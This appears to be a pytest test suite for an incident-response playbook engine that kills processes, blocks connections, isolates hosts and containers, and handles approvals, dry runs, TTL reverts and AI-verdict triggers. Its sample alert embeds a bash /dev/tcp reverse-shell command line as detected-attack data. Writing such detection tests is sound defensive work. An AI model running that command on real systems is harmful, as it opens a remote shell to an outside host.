"""The playbook engine as a plain object: alerts and a fake clock in,
commands and audit records out."""

import itertools

import pytest

import wire
from hive.playbook import (
    DEFAULT_PLAYBOOKS,
    PlaybookEngine,
    check_playbooks,
    parse_playbook,
)

REVERSE_SHELL = "139f073e-48c0-48af-af1c-71581a80d7da"


class Clock:
    def __init__(self, t=1_800_000_000.0):
        self.t = t

    def __call__(self):
        return self.t

    def advance(self, seconds):
        self.t += seconds


def ids():
    counter = itertools.count(1)
    return lambda: f"a-{next(counter)}"


def engine(*texts, clock=None, **kw):
    return PlaybookEngine([parse_playbook(t) for t in texts], clock=clock or Clock(), new_id=ids(), **kw)


_alerts = itertools.count(1)


def alert(rule="r1", agent="web1", events=None, **kw):
    events = events if events is not None else [wire.Exec(pid=4242, agent=agent, exe="/usr/bin/bash",
                                                          cmdline="bash -i >& /dev/tcp/10.9.8.7/4444 0>&1")]
    return wire.Alert(id=f"al-{next(_alerts)}", rule_id=rule, title="Test alert", level=kw.pop("level", "high"),
                      agent=agent, events=events, **kw)


KILL = """
id: kill
title: Kill it
trigger: {rules: [r1]}
steps:
  - action: kill_process
    params: {pid: "{{ event.pid }}", tree: true}
"""


def test_auto_mode_sends_a_command_with_templated_params_and_audits_it():
    clock = Clock()
    e = engine(KILL, clock=clock, command_ttl=60)
    d = e.on_alert(alert())
    assert len(d.send) == 1
    agent, cmd = d.send[0]
    assert agent == "web1"
    # a whole-value template keeps its type: the pid is the int the typed command needs
    assert cmd == wire.KillProcess(id="a-1", pid=4242, tree=True, expires=int((clock.t + 60) * 1e9))
    [a] = d.actions
    assert (a.state, a.playbook, a.agent) == ("sent", "kill", "web1")
    [rec] = d.audit
    assert rec.actor == "playbook:kill" and rec.result == "sent"
    assert "kill_process pid=4242 tree=True on web1" == rec.what
    assert "matched playbook kill" in rec.why


def test_result_closes_the_action_and_is_audited():
    e = engine(KILL)
    cmd = e.on_alert(alert()).send[0][1]
    d = e.on_result("web1", wire.CommandResult(command=cmd.id, ok=True, detail="killed 1 process(es): 4242"))
    [a] = d.actions
    assert a.state == "done" and a.result.startswith("ok: killed")
    assert d.audit[0].actor == "agent:web1"
    assert e.action(cmd.id) is None  # closed
    # the same result again, or one from another agent, changes nothing
    again = e.on_result("web1", wire.CommandResult(command=cmd.id, ok=True))
    assert not again.actions and again.audit[0].result.startswith("ignored")


def test_a_result_from_the_wrong_agent_is_ignored():
    e = engine(KILL)
    cmd = e.on_alert(alert()).send[0][1]
    d = e.on_result("db1", wire.CommandResult(command=cmd.id, ok=True))
    assert not d.actions and "sent to web1" in d.audit[0].result
    assert e.action(cmd.id).state == "sent"


def test_the_same_alert_twice_acts_once():
    e = engine(KILL)
    a = alert()
    assert e.on_alert(a).send
    assert not e.on_alert(a)


def test_trigger_and_conditions_select_alerts():
    pb = """
id: sel
title: Select
trigger: {tags: [attack.t1], min_level: high, agents: ["web*"], exclude_agents: [web9]}
conditions:
  - {field: event.exe, op: startswith, value: /usr/}
  - {field: event.verdict, op: not_equals, value: block}
steps:
  - action: kill_process
    params: {pid: "{{ event.pid }}"}
"""
    e = engine(pb)
    assert e.on_alert(alert(tags=["attack.t1"])).send
    assert not e.on_alert(alert(tags=["attack.t2"])).send
    assert not e.on_alert(alert(tags=["attack.t1"], level="medium")).send
    assert not e.on_alert(alert(tags=["attack.t1"], agent="db1")).send
    assert not e.on_alert(alert(tags=["attack.t1"], agent="web9")).send
    blocked = [wire.Exec(pid=7, agent="web1", exe="/usr/bin/x", verdict="block")]
    assert not e.on_alert(alert(tags=["attack.t1"], events=blocked)).send
    other = [wire.Exec(pid=7, agent="web1", exe="/opt/x")]
    assert not e.on_alert(alert(tags=["attack.t1"], events=other)).send


def test_missing_template_value_skips_the_step_with_the_reason():
    pb = """
id: block
title: Block
trigger: {rules: [r1]}
steps:
  - action: block_connect
    params: {address: "{{ event.address }}"}
    ttl: 10m
  - action: kill_process
    params: {pid: "{{ event.pid }}"}
"""
    d = engine(pb).on_alert(alert())
    assert [c.action for _, c in d.send] == ["kill_process"]
    skipped = d.audit[0]
    assert skipped.result == ("skipped: {{ event.address }}: event.address is not in the alert "
                              "(the alert's event is a exec event)")


def test_regex_filter_pulls_the_address_from_the_command_line():
    pb = [p for p in check_playbooks(DEFAULT_PLAYBOOKS).playbooks if p.id == "reverse-shell"]
    e = PlaybookEngine(pb, clock=Clock(), new_id=ids())
    d = e.on_alert(alert(rule=REVERSE_SHELL))
    sent = {c.action: c for _, c in d.send}
    kill, block = sent["kill_process"], sent["block_connect"]
    assert (kill.pid, kill.tree, kill.exe) == (4242, True, "/usr/bin/bash")
    assert (block.address, block.ttl) == ("10.9.8.7", 600)


def test_guardrail_refuses_pid_1_in_every_mode_with_a_clear_reason():
    for mode in ("auto", "approval", "dry-run"):
        e = engine(KILL.replace("title: Kill it", f"title: Kill it\nmode: {mode}"))
        d = e.on_alert(alert(events=[wire.Exec(pid=1, agent="web1")]))
        assert not d.send
        [a] = d.actions
        assert a.state == "refused"
        assert d.audit[0].result == "refused: pid 1 is init; killing it would bring the host down"


def test_guardrail_refuses_the_agents_own_pid():
    e = engine(KILL)
    e.agent_online("web1", pids=[555, 556])
    d = e.on_alert(alert(events=[wire.Exec(pid=556, agent="web1")]))
    assert not d.send
    assert d.audit[0].result.startswith("refused: pid 556 is the agent itself")


def test_guardrail_refuses_to_block_the_hive():
    pb = """
id: block
title: Block
trigger: {rules: [r1]}
steps:
  - action: block_connect
    params: {address: "{{ event.address }}"}
"""
    e = engine(pb, protected=["10.0.0.1"])
    d = e.on_alert(alert(events=[wire.Connect(pid=9, agent="web1", address="10.0.0.0", port=1)]))
    assert d.send  # 10.0.0.0 alone does not cover 10.0.0.1
    d = e.on_alert(alert(events=[wire.Connect(pid=9, agent="web1", address="10.0.0.1", port=1)]))
    assert not d.send
    assert "covers the hive's address 10.0.0.1/32" in d.audit[0].result


def test_invalid_rendered_params_are_refused():
    pb = """
id: block
title: Block
trigger: {rules: [r1]}
steps:
  - action: block_connect
    params: {address: "{{ event.comm }}"}
"""
    d = engine(pb).on_alert(alert(events=[wire.Exec(pid=9, agent="web1", comm="not-an-ip")]))
    assert not d.send
    assert d.audit[0].result.startswith("refused: invalid parameters: address:")


def test_approval_mode_does_nothing_until_approved():
    e = engine(KILL.replace("title: Kill it", "title: Kill it\nmode: approval"))
    d = e.on_alert(alert())
    assert not d.send and not d.local
    [a] = d.actions
    assert a.state == "pending_approval"
    assert "immune-node actions --approve a-1" in d.audit[0].result
    assert [p.id for p in e.pending()] == ["a-1"]
    assert not e.tick().send
    d = e.approve("a-1", "alice")
    [(agent, cmd)] = d.send
    assert (agent, cmd.id, cmd.pid) == ("web1", "a-1", 4242)
    assert d.audit[0].actor == "operator:alice"
    assert "approved by alice" in d.actions[0].reason
    assert not e.pending()
    # approving twice does nothing more
    assert not e.approve("a-1", "alice").send


def test_rejected_and_expired_approvals_send_nothing():
    clock = Clock()
    e = engine(KILL.replace("title: Kill it", "title: Kill it\nmode: approval"), clock=clock, approval_wait=60)
    e.on_alert(alert())
    e.on_alert(alert())
    d = e.reject("a-1", "bob", "false positive")
    assert not d.send and d.actions[0].state == "rejected" and "false positive" in d.actions[0].reason
    clock.advance(61)
    d = e.tick()
    assert [a.state for a in d.actions] == ["expired"]
    assert d.audit[0].result == "expired: nobody approved it in time"
    assert not e.approve("a-2", "alice").send


def test_step_mode_overrides_the_playbook_and_engine_dry_run_overrides_all():
    pb = """
id: mixed
title: Mixed
trigger: {rules: [r1]}
steps:
  - action: collect_evidence
    params: {pid: "{{ event.pid }}"}
  - action: kill_process
    mode: approval
    params: {pid: "{{ event.pid }}"}
"""
    d = engine(pb).on_alert(alert())
    assert [a.state for a in d.actions] == ["sent", "pending_approval"]
    d = engine(pb, dry_run=True).on_alert(alert())
    assert [a.state for a in d.actions] == ["dry_run", "dry_run"]


def test_dry_run_records_what_would_happen_and_sends_nothing():
    pb = """
id: dry
title: Dry
mode: dry-run
trigger: {rules: [r1]}
steps:
  - action: block_connect
    params: {address: "{{ event.cmdline | regex('([0-9.]+)/4444') }}"}
    ttl: 10m
"""
    e = engine(pb)
    d = e.on_alert(alert())
    assert not d.send and not d.local
    [a] = d.actions
    assert a.state == "dry_run" and a.params == {"address": "10.9.8.7"}
    assert d.audit[0].result == "dry-run: would send block_connect to web1, reverted after 600s"
    assert e.action(a.id) is None  # nothing left open, nothing to revert
    assert not e.tick()


def test_block_is_reverted_when_its_ttl_runs_out():
    pb = """
id: block
title: Block
trigger: {rules: [r1]}
steps:
  - action: block_connect
    params: {address: "{{ event.address }}", port: 4444}
    ttl: 10m
"""
    clock = Clock()
    e = engine(pb, clock=clock)
    cmd = e.on_alert(alert(events=[wire.Connect(pid=9, agent="web1", address="10.1.2.3", port=4444)])).send[0][1]
    clock.advance(5)
    d = e.on_result("web1", wire.CommandResult(command=cmd.id, ok=True, detail="blocked", data={"rule": "resp-a-1"}))
    assert (cmd.address, cmd.port, cmd.ttl) == ("10.1.2.3", 4444, 600)  # the agent's backstop gets the ttl
    assert d.actions[0].state == "active" and d.actions[0].expires == clock.t + 600
    clock.advance(599)
    assert not e.tick().send
    clock.advance(1)
    d = e.tick()
    [(agent, revert)] = d.send
    assert (agent, revert) == ("web1", wire.Unblock(id=revert.id, rule="resp-a-1", expires=revert.expires))
    d = e.on_result("web1", wire.CommandResult(command=revert.id, ok=True, detail="rule resp-a-1 lifted"))
    states = {a.id: a.state for a in d.actions}
    assert states == {revert.id: "done", cmd.id: "reverted"}
    assert e.statistics().reverted == 1 and e.statistics().active == 0


def test_isolation_ttl_reverts_with_unisolate():
    pb = """
id: iso
title: Isolate
trigger: {rules: [r1]}
steps:
  - action: isolate_host
    ttl: 1h
"""
    clock = Clock()
    e = engine(pb, clock=clock)
    cmd = e.on_alert(alert()).send[0][1]
    assert isinstance(cmd, wire.IsolateHost) and cmd.ttl == 3600
    e.on_result("web1", wire.CommandResult(command=cmd.id, ok=True, data={"rule": "isolation"}))
    clock.advance(3600)
    [(_, revert)] = e.tick().send
    assert isinstance(revert, wire.Unisolate)


def test_offline_agent_action_waits_then_is_delivered():
    clock = Clock()
    e = engine(KILL, clock=clock, offline_wait=600)
    e.agent_offline("web1")
    d = e.on_alert(alert())
    assert not d.send
    assert d.actions[0].state == "queued"
    assert d.audit[0].result == "queued: the agent is offline; sent when it returns within 600s"
    clock.advance(300)
    assert not e.tick().send
    d = e.agent_online("web1")
    [(agent, cmd)] = d.send
    assert agent == "web1" and cmd.action == "kill_process"
    assert cmd.expires == int((clock.t + e.command_ttl) * 1e9)  # counted from delivery, not the alert


def test_offline_agent_action_expires():
    clock = Clock()
    e = engine(KILL, clock=clock, offline_wait=600)
    e.agent_offline("web1")
    e.on_alert(alert())
    clock.advance(601)
    d = e.tick()
    assert d.actions[0].state == "expired"
    assert d.audit[0].result == "expired: the agent did not come back in time"
    assert not e.agent_online("web1").send


def test_unanswered_commands_are_resent_when_the_agent_returns():
    e = engine(KILL)
    cmd = e.on_alert(alert()).send[0][1]
    d = e.agent_offline("web1")
    assert d.actions[0].state == "queued"
    [(_, again)] = e.agent_online("web1").send
    assert again.id == cmd.id  # same id: the executor answers a repeat without running it twice


def test_commands_nobody_answers_are_closed():
    clock = Clock()
    e = engine(KILL, clock=clock, result_timeout=30)
    e.on_alert(alert())
    clock.advance(30)
    d = e.tick()
    assert d.actions[0].state == "unanswered"


def test_cooldown_per_key_and_one_audit_record_per_window():
    pb = KILL.replace("steps:", "limits: {cooldown: 60}\nsteps:")
    clock = Clock()
    e = engine(pb, clock=clock)
    assert e.on_alert(alert()).send
    first = e.on_alert(alert())
    assert not first.send
    assert first.audit[0].result.startswith("suppressed: cooldown: it ran for web1 0s ago (cooldown 60s)")
    assert not e.on_alert(alert()).audit  # counted, not recorded again
    assert e.on_alert(alert(agent="web2", events=[wire.Exec(pid=5, agent="web2")])).send  # another key
    clock.advance(60)
    assert e.on_alert(alert()).send
    assert e.statistics().suppressed == 2


def test_rate_limit_over_all_keys():
    pb = KILL.replace("steps:", "limits: {rate: 2/1m}\nsteps:")
    clock = Clock()
    e = engine(pb, clock=clock)
    sent = [bool(e.on_alert(alert(agent=f"h{i}", events=[wire.Exec(pid=5, agent=f"h{i}")])).send) for i in range(4)]
    assert sent == [True, True, False, False]
    clock.advance(60)
    assert e.on_alert(alert(agent="h9", events=[wire.Exec(pid=5, agent="h9")])).send


def test_notify_runs_on_the_hive_with_the_alert():
    pb = """
id: tell
title: Tell
trigger: {rules: [r1]}
steps:
  - action: notify
    params: {url: "{{ vars.webhook }}"}
"""
    e = engine(pb, variables={"webhook": "http://127.0.0.1:9/hook"})
    a = alert()
    d = e.on_alert(a)
    assert not d.send
    [cmd] = d.local
    assert cmd.url == "http://127.0.0.1:9/hook" and cmd.alert["id"] == a.id
    assert d.actions[0].agent == ""
    d = e.on_result("", wire.CommandResult(command=cmd.id, ok=False, detail="127.0.0.1:9 unreachable"))
    assert d.actions[0].state == "failed"
    # without a webhook configured the step says why it did nothing
    d = engine(pb).on_alert(alert())
    assert d.audit[0].result == "skipped: {{ vars.webhook }}: vars.webhook is not configured on the hive"


def test_an_alert_without_agent_skips_agent_steps():
    d = engine(KILL).on_alert(alert(agent="", events=[wire.Exec(pid=5)]))
    assert not d.send and d.audit[0].result == "skipped: the alert names no agent to act on"


def test_step_when_condition():
    pb = KILL.replace('params: {pid: "{{ event.pid }}", tree: true}',
                      'params: {pid: "{{ event.pid }}"}\n    when: [{field: event.result, op: equals, value: 0}]')
    e = engine(pb)
    assert e.on_alert(alert()).send
    d = e.on_alert(alert(events=[wire.Exec(pid=5, agent="web1", result=-1)]))
    assert not d.send and d.audit[0].result == "skipped: condition event.result equals not met"


def test_restore_takes_back_open_actions():
    clock = Clock()
    e = engine(KILL.replace("title: Kill it", "title: Kill it\nmode: approval"), clock=clock)
    d = e.on_alert(alert())
    pending = d.actions[0]
    fresh = engine(KILL, clock=clock)
    pending.state = "approved"  # as the CLI leaves it
    fresh.restore([pending])
    assert fresh.approve(pending.id, "alice").send


@pytest.mark.parametrize("pb", sorted(DEFAULT_PLAYBOOKS.glob("*.yml")), ids=lambda p: p.name)
def test_default_playbooks_load(pb):
    report = check_playbooks(pb)
    assert report.ok, report.format()


ISOLATE_CONTAINER = """
id: iso-c
title: Isolate the container
trigger: {rules: [r1]}
steps:
  - action: isolate_container
    params: {container: "{{ event.container }}"}
    ttl: 1h
    when: [{field: event.container, op: not_equals, value: ""}]
"""


def test_container_isolation_ttl_reverts_with_unisolate_container_naming_it():
    clock = Clock()
    e = engine(ISOLATE_CONTAINER, clock=clock)
    cmd = e.on_alert(alert(events=[wire.Exec(pid=7, agent="web1", container="c0ffee")])).send[0][1]
    assert cmd == wire.IsolateContainer(id=cmd.id, container="c0ffee", ttl=3600, expires=cmd.expires)
    e.on_result("web1", wire.CommandResult(command=cmd.id, ok=True, data={"container": "c0ffee", "netns": 42}))
    clock.advance(3600)
    [(agent, revert)] = e.tick().send
    assert (agent, revert) == ("web1", wire.UnisolateContainer(id=revert.id, container="c0ffee",
                                                               expires=revert.expires))
    d = e.on_result("web1", wire.CommandResult(command=revert.id, ok=True))
    assert {a.id: a.state for a in d.actions} == {revert.id: "done", cmd.id: "reverted"}
    # an event from the host names no container: the step is skipped, not sent
    d = e.on_alert(alert(events=[wire.Exec(pid=8, agent="web1")]))
    assert not d.send and d.audit[0].result == "skipped: condition event.container not_equals not met"


def test_exec_from_temp_names_whose_file_to_quarantine():
    """The path is the process's own: the quarantine carries its pid, mount
    namespace and container, so the agent opens it in that root."""
    e = PlaybookEngine([parse_playbook((DEFAULT_PLAYBOOKS / "exec_from_temp.yml").read_text())], clock=Clock(),
                       new_id=ids())
    event = wire.Exec(pid=4242, agent="web1", exe="/tmp/x", result=-1, verdict="block", container="c0ffee",
                      mntns=4026532174)
    [(_, cmd)] = e.on_alert(alert(rule="f0e573d2-6313-4ebf-acd3-66449483759d", events=[event])).send
    assert (cmd.action, cmd.path, cmd.pid, cmd.container, cmd.mntns) == (
        "quarantine_file", "/tmp/x", 4242, "c0ffee", 4026532174)
    # on the host: no container, and the mount namespace as the sensor says
    event = wire.Exec(pid=4243, agent="web1", exe="/tmp/y", result=-1, verdict="block", mntns=4026531832)
    [(_, cmd)] = e.on_alert(alert(rule="f0e573d2-6313-4ebf-acd3-66449483759d", events=[event])).send
    assert (cmd.pid, cmd.container, cmd.mntns) == (4243, "", 4026531832)


ON_VERDICT = """
id: ai-kill
title: Kill what the AI called high
mode: approval
trigger:
  ai_verdict: {min_severity: high, min_confidence: 0.8, techniques: [T1059]}
  exclude_agents: [bastion]
conditions:
  - {field: verdict.explanation, op: contains, value: shell}
steps:
  - action: kill_process
    params: {pid: "{{ event.pid }}", tree: true}
"""

RECOMMENDED = """
id: reverse-shell-ai
title: Only when the model recommends it
trigger: {ai_verdict: {recommended: true}}
steps:
  - action: kill_process
    params: {pid: "{{ event.pid }}"}
"""

_verdicts = itertools.count(1)


def verdict(**kw):
    v = {"severity": "high", "techniques": ["T1059.004"], "explanation": "a reverse shell", "playbook": "",
         "confidence": 0.9, "model": "m", "incident": "inc-1"}
    v.update(kw)
    v.setdefault("id", next(_verdicts))
    return v


def test_ai_verdict_trigger_fires_on_a_stored_verdict_only_where_it_holds():
    e = engine(ON_VERDICT, KILL)
    a = alert()
    d = e.on_verdict(verdict(), a)
    [act] = d.actions
    assert (act.playbook, act.state, act.params["pid"], act.agent) == ("ai-kill", "pending_approval", 4242, "web1")
    assert "AI verdict on incident inc-1: high (0.9) from m matched playbook ai-kill" in act.reason
    # The same verdict again: acted on once.
    assert not e.on_verdict(verdict(id=1), a) and not e.on_verdict(verdict(id=1), a).actions
    for miss in (verdict(severity="medium"), verdict(confidence=0.79), verdict(techniques=["T1105"]),
                 verdict(techniques=["T10590"]), verdict(explanation="benign cron job")):
        assert not e.on_verdict(miss, alert()).actions, miss
    assert not e.on_verdict(verdict(), alert(agent="bastion")).actions
    assert e.on_verdict(verdict(severity="critical", techniques=["T1059"]), alert()).actions
    # An alert never fires an ai_verdict playbook, a verdict never an alert's.
    d = e.on_alert(alert())
    assert [x.playbook for x in d.actions] == ["kill"]


def test_ai_verdict_recommended_fires_only_the_playbook_the_model_named():
    e = engine(RECOMMENDED, ON_VERDICT.replace("ai-kill", "other"))
    assert [x.playbook for x in e.on_verdict(verdict(playbook="reverse-shell-ai"), alert()).actions] == [
        "reverse-shell-ai", "other"]
    assert [x.playbook for x in e.on_verdict(verdict(playbook="something-else"), alert()).actions] == ["other"]


@pytest.mark.parametrize("trigger, reason", [
    ("{ai_verdict: {}}", "it would fire on every verdict"),
    ("{ai_verdict: {min_severity: dire}}", "min_severity: 'dire' is not one of"),
    ("{ai_verdict: {min_confidence: 1.5}}", "min_confidence: 1.5 is not from 0 to 1"),
    ("{ai_verdict: {techniques: [execution]}}", "'execution' is not an ATT&CK id"),
    ("{ai_verdict: {min_severity: high}, rules: [r1]}", "with ai_verdict, only agents and exclude_agents"),
    ("{ai_verdict: {min_severity: high, when: now}}", "unknown key"),
])
def test_ai_verdict_trigger_is_checked_when_loaded(trigger, reason):
    from hive.playbook import PlaybookError

    with pytest.raises(PlaybookError, match=reason):
        parse_playbook(f"id: x\ntitle: x\ntrigger: {trigger}\nsteps:\n  - action: kill_process\n"
                       "    params: {pid: 5}\n")
